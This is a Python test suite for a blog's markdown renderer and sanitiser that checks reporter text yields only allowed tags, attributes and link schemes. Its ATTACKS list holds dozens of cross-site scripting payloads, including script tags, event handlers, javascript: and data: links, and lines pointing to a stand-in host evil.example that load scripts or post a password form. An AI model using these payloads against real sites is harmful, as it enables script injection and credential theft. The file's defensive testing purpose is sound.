"""What a reporter may write, and what never reaches a page, judged by another parser than the sanitiser's."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from blog.text.markdown import read, render

# Written down a second time on purpose: a tag that is added to the sanitiser has to be meant.
TAGS = {
    *("p", "br", "em", "strong", "s", "blockquote", "ul", "ol", "li", "a", "code", "pre", "h4", "h5", "h6", "hr"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
BLOCKS = ("p", "blockquote", "ul", "ol", "li", "h4", "h5", "h6", "table", "th", "td")
ATTRIBUTES = {tag: {"dir"} for tag in BLOCKS} | {"a": {"href", "title", "rel"}}
ATTRIBUTES |= {"ol": {"dir", "start"}, "li": {"dir", "value"}}
SCHEMES = {"http", "https", "mailto"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<details open ontoggle=alert(1)>",
    "<hx-partial hx-target='#banner'>x</hx-partial>",
    "<div hx-get='/desk/sign-out' hx-trigger=load>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '[x](https://e.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://e.example/\"onmouseover='alert(1)')",
    "```<script>\nalert(1)\n```",
    "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "\u2028<script\u2028>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\u202e<script>\u202c",
    "[a](<javascript:alert(1)>)",
    "<a\x0chref=javascript:alert(1)>x",
    "<x" * 500,
    "[" * 500 + "](javascript:alert(1))",
    "> " * 300 + "<script>",
]


class Reader(HTMLParser):
    """Lists the elements of a piece of HTML as Python's own parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def scheme(address: str) -> str:
    """The scheme as a browser sees it: without the white space and control characters that it passes over."""
    seen = re.sub(r"[\x00-\x20\x7f-\xa0\u2028\u2029]", "", address).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", seen)
    return match[1] if match else ""


def assert_harmless(html: str) -> None:
    read = Reader(html)
    assert not read.others, html
    for tag, attributes in read.elements:
        assert tag in TAGS, html
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()), html
        assert scheme(attributes.get("href", "")) in SCHEMES | {""}, html
        assert attributes.get("dir", "auto") in ("auto", "rtl"), html
        if tag == "a":
            assert attributes["rel"] == "nofollow noopener"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_harmless(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"Words before {attack} and after.\n\n{attack}"))


def test_the_judge_would_see_an_attack() -> None:
    for guilty in ("<script>", "<p onclick=x>", "<a rel='nofollow noopener' href=' java\nscript:x'>", "<!-- x -->"):
        with pytest.raises(AssertionError):
            assert_harmless(guilty)


PIECES = st.sampled_from(
    [
        *ATTACKS,
        "<",
        ">",
        "&",
        '"',
        "'",
        "`",
        "```",
        "[",
        "](",
        ")",
        "**",
        "_",
        "~~",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "# ",
        "|",
    ]
)


@settings(max_examples=150)
@given(st.lists(PIECES | st.text(max_size=12), max_size=8).map("".join))
@example("\x00")
@example("\ufffe\uffff")
def test_no_text_whatever_becomes_more_than_the_allowed_markup(text: str) -> None:
    assert_harmless(render(text))


def test_raw_html_is_shown_as_the_text_that_was_typed() -> None:
    assert render("a <b>bold</b> claim") == '<p dir="auto">a &lt;b&gt;bold&lt;/b&gt; claim</p>'


def test_a_reporters_markdown_is_kept() -> None:
    html = render(
        "**Bold**, *soft*, ~~gone~~ and `code`.\n\n> Quoted.\n\n3. three\n4. four\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for part in ("<strong>Bold</strong>", "<em>soft</em>", "<s>gone</s>", "<code>code</code>", "<blockquote"):
        assert part in html
    assert '<ol start="3">' in html
    assert '<th dir="auto">a</th>' in html
    assert '<td dir="auto">2</td>' in html


def test_a_link_keeps_its_address_and_vouches_for_nothing() -> None:
    assert render("[Xinhua](https://example.org/a?b=1&c=2)") == (
        '<p dir="auto"><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener">Xinhua</a></p>'
    )


@pytest.mark.parametrize("address", ["http://a.example", "https://a.example", "mailto:press@a.example"])
def test_a_link_may_use_these_schemes(address: str) -> None:
    assert f'href="{address}"' in render(f"[x]({address})")


@pytest.mark.parametrize(
    "address", ["ftp://a.example", "intent://a#Intent;end", "tel:+43", "ms-word:ofe|u|x", "ws://a"]
)
def test_a_link_with_any_other_scheme_is_only_its_words(address: str) -> None:
    assert render(f"[x]({address})") == '<p dir="auto"><a rel="nofollow noopener">x</a></p>'


@pytest.mark.parametrize(
    "address", ["www.a.example", "/live/talks", "#u-abc", "//a.example", "../a", "?q=a", "ftp://a"]
)
def test_an_address_that_is_not_whole_is_named(address: str) -> None:
    text = f"A [good](https://a.example) link, one to the [press](mailto:a@a.example), and [another]({address})."
    assert read(text).unfinished_links == (address,)
    assert read(f"> - **[x]({address})**").unfinished_links == (address,)
    assert read(f"A picture: ![x]({address})").unfinished_links == (address,)
    assert read(f"`[x]({address})` and \\[x]({address}) are no links").unfinished_links == ()


def test_headings_stay_below_those_of_the_page() -> None:
    html = render("## Two\n\n### Three\n\n###### Six")
    assert re.findall(r"<h(\d)", html) == ["4", "5", "6"]


def test_other_scripts_pass_through_whole() -> None:
    assert render("北京重申：**对话** 🕊️ العربية") == '<p dir="auto">北京重申：<strong>对话</strong> 🕊️ العربية</p>'
    assert read("x").html == render("x")


def test_the_longest_text_of_the_worst_kind_is_rendered_in_bounded_depth() -> None:
    assert_harmless(render("> " * 10_000))
    assert_harmless(render("*a **b " * 2_500))
